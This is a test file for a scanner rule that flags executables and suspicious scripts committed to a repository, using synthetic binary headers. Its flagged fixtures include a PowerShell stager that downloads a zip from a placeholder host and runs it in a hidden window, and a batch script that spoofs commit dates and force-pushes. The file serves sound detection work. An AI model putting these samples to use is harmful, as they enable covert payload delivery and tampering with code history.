import { ruleTest } from '../../testing/rule-tester.js';
import rule from './executable-in-source.js';

function bin(head: number[] | string, size = 256): Uint8Array {
  const b = new Uint8Array(size);
  const h = typeof head === 'string' ? [...head].map((c) => c.charCodeAt(0)) : head;
  b.set(h);
  for (let i = h.length; i < size; i++) b[i] = (i * 7 + 3) & 0xff;
  return b;
}
/** ELF header: class, data, machine. */
function elf(bits: 1 | 2, machine: number, type = 3): Uint8Array {
  const b = bin([0x7f, 0x45, 0x4c, 0x46, bits, 1, 1, 0]);
  b.set([type, 0, machine & 0xff, machine >> 8], 16);
  return b;
}
function pe(dll = false): Uint8Array {
  const b = bin('MZ', 512);
  b.set([0x80, 0, 0, 0], 0x3c);
  b.set([0x50, 0x45, 0, 0, 0x4c, 0x01], 0x80); // PE, i386
  b.set([dll ? 0x02 : 0x02, dll ? 0x21 : 0x01], 0x80 + 22);
  return b;
}
const machO = bin([0xcf, 0xfa, 0xed, 0xfe, 0x0c, 0x00, 0x00, 0x01]); // 64-bit LE, ARM64
const javaClass = bin([0xca, 0xfe, 0xba, 0xbe, 0x00, 0x00, 0x00, 0x34]);

ruleTest(rule, {
  clean: [
    { name: 'prebuilt addon in node_modules', file: 'node_modules/canvas/build/Release/canvas.node', bytes: elf(2, 62) },
    { name: 'esbuild binary in node_modules', file: 'node_modules/@esbuild/linux-x64/bin/esbuild', bytes: elf(2, 62, 2) },
    { name: 'prebuilds in node_modules', file: 'node_modules/sharp/prebuilds/win32-x64/sharp.node', bytes: pe(true) },
    { name: 'Sphinx make.bat', file: 'docs/make.bat', code: '@ECHO OFF\npushd %~dp0\nif "%SPHINXBUILD%" == "" (\n\tset SPHINXBUILD=sphinx-build\n)\n%SPHINXBUILD% -M %1 %SOURCEDIR% %BUILDDIR%\npopd\n' },
    { name: 'gradle wrapper script', file: 'android/gradlew.bat', code: '@rem Gradle startup script for Windows\n@if "%DEBUG%"=="" @echo off\nset DIRNAME=%~dp0\n"%JAVA_EXE%" %DEFAULT_JVM_OPTS% -classpath "%CLASSPATH%" org.gradle.wrapper.GradleWrapperMain %*\n' },
    { name: 'gradle wrapper jar', file: 'android/gradle/wrapper/gradle-wrapper.jar', bytes: bin('PK\x03\x04') },
    { name: 'WebAssembly build output', file: 'src/wasm/hash.wasm', bytes: bin([0x00, 0x61, 0x73, 0x6d, 0x01, 0, 0, 0]) },
    { name: 'an image (file-type-mismatch judges media)', file: 'public/logo.png', bytes: pe() },
    { name: 'ordinary binary data', file: 'assets/model.onnx', bytes: bin([0x08, 0x07, 0x12, 0x04]) },
    { name: 'source code', file: 'src/index.js', code: 'console.log(1);\n' },
  ],
  flagged: [
    { name: 'Windows executable at the repo root', file: 'setup.exe', bytes: pe(), findings: [{ line: 1, severity: 'medium', evidence: 'setup.exe: PE executable for Windows (x86)' }] },
    { name: 'ELF disguised without extension', file: 'scripts/update', bytes: elf(2, 62, 2), findings: [{ line: 1, severity: 'medium', message: /ELF 64-bit executable \(x86-64\)/ }] },
    { name: 'Mach-O', file: 'bin/helper', bytes: machO, findings: [{ line: 1, severity: 'medium', message: /Mach-O 64-bit \(ARM64\)/ }] },
    {
      name: 'Solana eBPF program fixture is low',
      file: 'test/fixtures/noop-program/solana_sbf_rust_noop.so',
      bytes: elf(2, 247),
      findings: [{ line: 1, severity: 'low', message: /eBPF/ }],
    },
    {
      name: 'per-platform fallback binaries in a published npm package are low',
      file: 'package/fallbacks/windows/clipboard_x86_64.exe',
      bytes: pe(),
      findings: [{ line: 1, severity: 'low', message: /published npm package/ }],
    },
    { name: 'binary in a package tarball inside the repo is low', file: 'vendor-pkgs/tool-1.0.0.tgz/package/bin/tool', bytes: elf(2, 62, 2), findings: [{ line: 1, severity: 'low' }] },
    { name: 'a folder merely named like a package is not a tarball', file: 'src/package/bin/update.exe', bytes: pe(), findings: [{ line: 1, severity: 'medium' }] },
    { name: 'native addon built in the tree is low', file: 'build/Release/addon.node', bytes: elf(2, 62), findings: [{ line: 1, severity: 'low' }] },
    { name: 'Java class file is low', file: 'lib/Main.class', bytes: javaClass, findings: [{ line: 1, severity: 'low', message: /Java class file/ }] },
    {
      name: 'campaign force-push helper',
      file: 'temp_auto_push.bat',
      code: '@echo off\nfor /f "delims=" %%A in (\'git log -1 --format=%%cd\') do set LAST_COMMIT_DATE=%%A\ngit add .\nset GIT_COMMITTER_DATE=%LAST_COMMIT_DATE%\ngit commit --amend -m "%LAST_COMMIT_TEXT%" --no-verify\ngit push -uf origin %CURRENT_BRANCH%\n',
      findings: [{ line: 4, severity: 'medium', message: /rewrites git history/ }],
    },
    {
      name: 'PowerShell stager',
      file: 'setup.ps1',
      code: '$u = "https://x.example/p.zip"\nInvoke-WebRequest -Uri $u -OutFile "$env:TEMP\\p.zip"\nStart-Process -WindowStyle Hidden "$env:TEMP\\p\\run.exe"\n',
      findings: [{ line: 2, severity: 'medium', message: /downloads, hidden window/ }],
    },
    { name: 'a plain VBScript is low', file: 'tools/watchdog.vbs', code: 'Dim x\nx = 1\nWScript.Echo x\n', findings: [{ line: 1, severity: 'low' }] },
  ],
});
